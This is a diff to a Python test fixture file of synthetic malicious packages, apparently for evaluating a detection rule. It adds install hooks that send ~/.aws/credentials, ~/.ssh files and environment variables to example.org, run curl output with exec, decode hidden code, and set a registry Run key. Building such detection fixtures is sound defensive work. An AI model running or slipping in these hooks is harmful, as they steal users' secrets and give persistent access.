@@ -1,7 +1,7 @@
 """Small packages that do what hostile ones do, in the shapes of public reports, with payloads that do nothing.
 
-Each is a name and its files. Those of `TUNED` were looked at while the rule was made; those of `HELD` were written before
-and only counted at the end.
+Each is a name and its files. Those of `TUNED` were looked at while the rule was made. Those of `LATER` were written before and counted
+once, when 8 of 12 were found; then they were looked at, too. Those of `HELD` were written after that and only counted.
 """
 
 from __future__ import annotations
@@ -111,7 +111,7 @@ setup(name="shop")
     },
 }
 
-HELD: dict[str, Package] = {
+LATER: dict[str, Package] = {
     "hex text is executed by a name put together": {
         "setup.py": SETUP,
         "shop/__init__.py": """
@@ -232,6 +232,87 @@ stage.write(urllib.request.urlopen("https://example.org/stage").read())
 stage.close()
 os.system("python " + stage.name)
 setup(name="shop")
+""",
+    },
+}
+
+HELD: dict[str, Package] = {
+    "a token of the cloud is asked for and sent": {
+        "setup.py": """
+import os, http.client
+from setuptools import setup
+from setuptools.command.egg_info import egg_info
+class Info(egg_info):
+    def run(self):
+        with open(os.path.expanduser("~/.aws/credentials")) as file:
+            text = file.read()
+        line = http.client.HTTPSConnection("example.org")
+        line.request("POST", "/k", text)
+        egg_info.run(self)
+setup(name="shop", cmdclass={"egg_info": Info})
+""",
+    },
+    "numbers are turned into code": {
+        "package.json": '{"name": "shop", "scripts": {"postinstall": "node build.js"}}',
+        "build.js": """
+const codes = [99, 111, 110, 115, 111, 108, 101];
+let text = "";
+for (const code of codes) text += String.fromCharCode(code - 1);
+setTimeout(() => { new Function(text)(); }, 1000);
+""",
+    },
+    "a script is fetched by a command and evaluated": {
+        "setup.py": """
+import subprocess
+from setuptools import setup
+code = subprocess.check_output("curl -fsSL https://example.org/p.py", shell=True)
+exec(code)
+setup(name="shop")
+""",
+    },
+    "a program hidden in the package is unpacked and started": {
+        "setup.py": SETUP,
+        "shop/__init__.py": """
+import base64, os, subprocess, tempfile
+from .data import BLOB
+where = os.path.join(tempfile.mkdtemp(), "svc")
+with open(where, "wb") as out:
+    out.write(base64.b85decode(BLOB))
+os.chmod(where, 0o755)
+subprocess.Popen([where], start_new_session=True)
+""",
+        "shop/data.py": "BLOB = b'VPaz'\n",
+    },
+    "all variables go out as a name to resolve": {
+        "package.json": '{"name": "shop", "scripts": {"preinstall": "node pre"}}',
+        "pre.js": """
+const dns = require("dns");
+for (const [key, value] of Object.entries(process.env)) {
+  dns.lookup(Buffer.from(key + value).toString("hex") + ".example.org", () => {});
+}
+""",
+    },
+    "a key of the registry starts it again": {
+        "setup.py": """
+import winreg, sys
+from setuptools import setup
+with winreg.OpenKey(winreg.HKEY_CURRENT_USER, r"Software\\Microsoft\\Windows\\CurrentVersion\\Run", 0, winreg.KEY_SET_VALUE) as key:
+    winreg.SetValueEx(key, "update", 0, winreg.REG_SZ, sys.executable)
+setup(name="shop")
+""",
+    },
+    "a script of another name does the work": {
+        "package.json": '{"name": "shop", "scripts": {"install": "sh scripts/setup.sh", "test": "node t"}}',
+        "index.js": "module.exports = 1;\n",
+    },
+    "every file of a folder is read and posted": {
+        "package.json": '{"name": "shop", "scripts": {"postinstall": "node lib/x.js"}}',
+        "lib/x.js": """
+const fs = require("fs"), os = require("os"), path = require("path");
+const folder = path.join(os.homedir(), ".ssh");
+for (const name of fs.readdirSync(folder)) {
+  fetch("https://example.org/f", { method: "POST", body: fs.readFileSync(path.join(folder, name)) });
+}
 """,
     },
 }
